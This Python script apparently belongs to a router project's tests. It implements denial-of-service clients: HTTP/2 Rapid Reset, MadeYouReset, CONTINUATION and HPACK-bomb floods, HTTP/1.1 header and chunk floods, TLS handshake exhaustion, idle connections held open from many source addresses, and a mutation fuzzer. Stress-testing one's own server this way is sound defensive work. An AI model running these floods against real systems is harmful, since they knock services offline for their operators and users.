#!/usr/bin/env python3
"""attackers.py KIND ADDRESS PORT SECONDS [COUNT]: a client that means harm to a router. Prints what
it did as JSON: {"connections": N, "units": N}. `PORT` is the plain one, but for `hellos` and `idle`
(COUNT connections, from the addresses that SOURCES names).

Floods are made once as bytes and sent to one connection after the other, each until the router has
had enough; a unit is a frame, a request, a handshake. `mutated` makes its requests from those of
the corpus in the tree, a seed of its own each time, and prints the seed first.
"""

import errno
import json
import pathlib
import random
import select
import socket
import ssl
import struct
import sys
import time

REPOSITORY = pathlib.Path(__file__).resolve().parent.parent
SOURCES = [f'10.213.77.{last}' for last in range(100, 150)]
PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = (0, 1, 2, 3, 4, 6, 8,
                                                                               9)
END_STREAM, END_HEADERS = 1, 4
FRAMES = 20_000
PATIENCE_S = 2
IDLE_PER_ADDRESS = 250


def frame(kind, flags, stream, payload=b''):
    return struct.pack('>I', len(payload))[1:] + struct.pack('>BBI', kind, flags, stream) + payload


def literal(text):
    return bytes([len(text)]) + text


def field(name, value):
    return b'\0' + literal(name) + literal(value)


HEAD = (field(b':method', b'GET') + field(b':scheme', b'http') +
        field(b':authority', b'hello.localhost') + field(b':path', b'/'))


def opened(stream, flags=END_HEADERS | END_STREAM):
    return frame(HEADERS, flags, stream, HEAD)


def repeated(make, count=FRAMES):
    return PREFACE + frame(SETTINGS, 0, 0) + b''.join(make(number) for number in range(count))


FLOODS = {
    'rapid_reset': lambda: repeated(lambda n: opened(2 * n + 1) +
                                    frame(RESET, 0, 2 * n + 1, struct.pack('>I', 8))),
    'made_you_reset': lambda: repeated(lambda n: opened(2 * n + 1) + frame(
        WINDOW_UPDATE, 0, 2 * n + 1, struct.pack('>I', 0))),
    'streams': lambda: repeated(lambda n: opened(2 * n + 1)),
    'pings': lambda: repeated(lambda n: frame(PING, 0, 0, bytes(8))),
    'settings': lambda: repeated(lambda n: frame(SETTINGS, 0, 0)),
    'empty_data': lambda: repeated(lambda n: frame(DATA, 0, 1) if n else opened(1, END_HEADERS)),
    'priorities': lambda: repeated(lambda n: frame(PRIORITY, 0, 1, bytes(4) + b'\1')),
    'window_updates': lambda: repeated(lambda n: frame(WINDOW_UPDATE, 0, 0,
                                                       struct.pack('>I', 1))),
    'continuations': lambda: repeated(lambda n: frame(CONTINUATION, 0, 1, field(b'x', b'y'))
                                      if n else frame(HEADERS, END_STREAM, 1, HEAD)),
    'large_heads': lambda: repeated(lambda n: frame(CONTINUATION, 0, 1, b''.join(
        field(b'x%d' % k, b'y' * 100) for k in range(130)))
        if n else frame(HEADERS, END_STREAM, 1, HEAD), 2000),
    'hpack_bomb': lambda: repeated(lambda n: frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1,
                                                   HEAD + b'\x40' + literal(b'bomb') +
                                                   literal(b'x' * 120) + b'\xbe' * 16_000), 200),
    'requests': lambda: b'GET / HTTP/1.1\r\nHost: hello.localhost\r\n\r\n' * FRAMES,
    'large_head_lines': lambda: b'GET / HTTP/1.1\r\n' + b'X-Long: y\r\n' * FRAMES,
    'chunks_of_a_byte': lambda: (b'POST / HTTP/1.1\r\nHost: hello.localhost\r\n'
                                 b'Transfer-Encoding: chunked\r\n\r\n' + b'1\r\nx\r\n' * FRAMES),
}


def connect(to, source=None):
    one = socket.socket()
    one.settimeout(PATIENCE_S)
    try:
        if source is not None:
            one.bind((source, 0))
        one.connect(to)
    except OSError:
        one.close()
        raise
    return one


def pour(one, bytes_):
    """Sends all, and takes what comes meanwhile, until either side has enough. Bytes sent."""
    one.setblocking(False)
    sent, end = 0, time.monotonic() + PATIENCE_S
    while time.monotonic() < end:
        readable, writable, _ = select.select([one], [one] if sent < len(bytes_) else [], [], 0.2)
        try:
            if writable:
                sent += one.send(bytes_[sent:sent + 65536])
            if readable and not one.recv(65536):
                break
        except BlockingIOError:
            continue
        except OSError:
            break
        if sent == len(bytes_) and not readable:
            break
    return sent


def flood(bytes_, to, end):
    connections, units = 0, 0.0
    while time.monotonic() < end:
        try:
            with connect(to) as one:
                connections += 1
                units += pour(one, bytes_) / len(bytes_) * FRAMES
        except OSError:
            time.sleep(0.001)
    return {'connections': connections, 'units': int(units)}


def connections_alone(to, end):
    count = 0
    while time.monotonic() < end:
        try:
            connect(to).close()
            count += 1
        except OSError:
            time.sleep(0.001)
    return {'connections': count, 'units': count}


def client_hello():
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    try:
        context.wrap_bio(incoming, outgoing, server_hostname='hello.localhost').do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def hellos(to, end):
    """Makes the router sign, and does none of its own part."""
    hello, count, answered = client_hello(), 0, 0
    while time.monotonic() < end:
        try:
            with connect(to) as one:
                one.sendall(hello)
                count += 1
                answered += one.recv(100) != b''
        except OSError:
            time.sleep(0.001)
    return {'connections': count, 'units': answered}


def idle(to, end):
    """TLS connections that have made their handshake and wait, from many addresses. Says `held`
    when they are there."""
    context = ssl._create_unverified_context()  # the test's certificate is its own
    held, count = [], int(sys.argv[5])
    for number in range(count):
        try:
            plain = connect(to, SOURCES[number // IDLE_PER_ADDRESS])
            held.append(context.wrap_socket(plain, server_hostname='hello.localhost'))
        except OSError as error:
            sys.exit(f'connection {number} is refused: {error}')
    print('held', flush=True)
    time.sleep(max(0, end - time.monotonic()))
    for one in held:
        one.close()
    return {'connections': len(held), 'units': len(held)}


def seeds():
    folder = REPOSITORY / 'src/http/corpus/request_fuzz'
    return [path.read_bytes() for path in sorted(folder.iterdir())]


def mutate(chance, known):
    text = bytearray(chance.choice(known))
    for _ in range(chance.randint(1, 4)):
        at = chance.randrange(len(text) + 1)
        kind = chance.randrange(5)
        if kind == 0:
            text[at:at + 1] = bytes([chance.randrange(256)])
        elif kind == 1:
            del text[at:at + chance.randint(1, 8)]
        elif kind == 2:
            text[at:at] = chance.choice((b'\r\n', b'\n', b'\0', b' ', b':', b'\r', b'Host: a',
                                         b'Content-Length: 5\r\n', b'Transfer-Encoding: chunked'))
        elif kind == 3:
            other = chance.choice(known)
            cut = chance.randrange(len(other) + 1)
            text[at:] = other[cut:]
        else:
            text[at:at] = text[:chance.randint(0, 64)]
    return bytes(text)


def mutated(to, end):
    """Several on their way at once, since the router keeps what looks unfinished open."""
    seed = random.randrange(1 << 32)
    print(f'seed {seed}', file=sys.stderr, flush=True)
    chance, known, count, open_ = random.Random(seed), seeds(), 0, []
    while time.monotonic() < end:
        try:
            one = connect(to)
            one.sendall(mutate(chance, known))
        except OSError as error:
            if error.errno == errno.EMFILE:
                raise
            continue
        count += 1
        one.setblocking(False)
        open_.append(one)
        if len(open_) < 64:
            continue
        for _ in range(32):
            with open_.pop(0) as oldest:
                try:
                    oldest.recv(65536)
                except OSError:
                    pass
    return {'connections': count, 'units': count}


def main():
    kind, to, seconds = sys.argv[1], (sys.argv[2], int(sys.argv[3])), float(sys.argv[4])
    special = {'connections': connections_alone, 'hellos': hellos, 'idle': idle,
               'mutated': mutated}
    if kind in special:
        done = special[kind](to, time.monotonic() + seconds)
    else:
        bytes_ = FLOODS[kind]()
        done = flood(bytes_, to, time.monotonic() + seconds)
    print(json.dumps(done), flush=True)


if __name__ == '__main__':
    main()
